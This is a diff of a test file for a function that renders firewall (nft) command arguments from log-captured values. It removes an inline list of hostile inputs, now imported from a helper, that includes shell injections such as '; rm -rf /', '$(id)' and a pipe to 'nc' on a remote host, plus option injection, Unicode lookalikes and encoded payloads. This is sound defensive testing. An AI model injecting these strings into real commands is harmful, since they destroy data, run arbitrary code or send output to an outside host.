@@ -1,48 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { placeholdersOf, renderArgv } from '../../src/actions/render-argv.js';
 import type { FieldType } from '../../src/core/types.js';
+import { HOSTILE_CAPTURES as HOSTILE } from '../helpers/hostile-text.js';
 
 const TYPES: Record<string, FieldType> = { ip: 'ip', user: 'user', host: 'host', port: 'port', note: 'text' };
 const BLOCK = ['/usr/sbin/nft', 'add', 'element', 'inet', 'filter', 'blocklist', '{ {ip} }'];
-
-// What an attacker can put into a capture by writing it into a log line.
-const SHELL = [
-  '; rm -rf /',
-  '$(id)',
-  '`id`',
-  '| nc 6.6.6.6 4444',
-  '&& reboot',
-  '> /etc/passwd',
-  "' OR 1=1",
-  '"; id; "',
-];
-const OPTIONS = ['-rf', '--help', '-o/tmp/x', '--exec=/bin/sh', '-', '--'];
-const WHITESPACE = ['1.2.3.4 5.6.7.8', '1.2.3.4\n5.6.7.8', '1.2.3.4\t-j ACCEPT', ' 1.2.3.4', '1.2.3.4 ', '\r1.2.3.4'];
-const LOOKALIKES = ['１.２.３.４', '1.2.3.4\u200b', '1․2․3․4', 'ｒｏｏｔ', 'rооt', '1.2.3.4\u202e', '\u00001.2.3.4'];
-const MALFORMED = [
-  '999.1.1.1',
-  '1.2.3',
-  '1.2.3.4.5',
-  '1.2.3.4/33',
-  '::g',
-  '2001:db8::1::1',
-  '',
-  ' ',
-  '0x7f.1',
-  'localhost:22',
-];
-const LONG = ['1'.repeat(100_000), `${'a'.repeat(33)}`, `${'a.'.repeat(200)}com`, `1.2.3.4${' '.repeat(5000)}`];
-const ENCODED = ['%3Bid', '1.2.3.4%0a', '\\x3bid', '&#59;id', '${IFS}id', '$IFS', '~root', '*', '?', '[a-z]', '{a,b}'];
-// Each alone, and glued to a real address (the empty string would glue into the address itself: left out).
-const HOSTILE = [
-  ...new Set(
-    [...SHELL, ...OPTIONS, ...WHITESPACE, ...LOOKALIKES, ...MALFORMED, ...LONG, ...ENCODED].flatMap((v) => [
-      v,
-      `203.0.113.7${v}`,
-      `${v}203.0.113.7`,
-    ]),
-  ),
-].filter((v) => v !== '203.0.113.7');
 
 describe('renderArgv', () => {
   it('fills placeholders from typed captures, each value one whole argv element', () => {
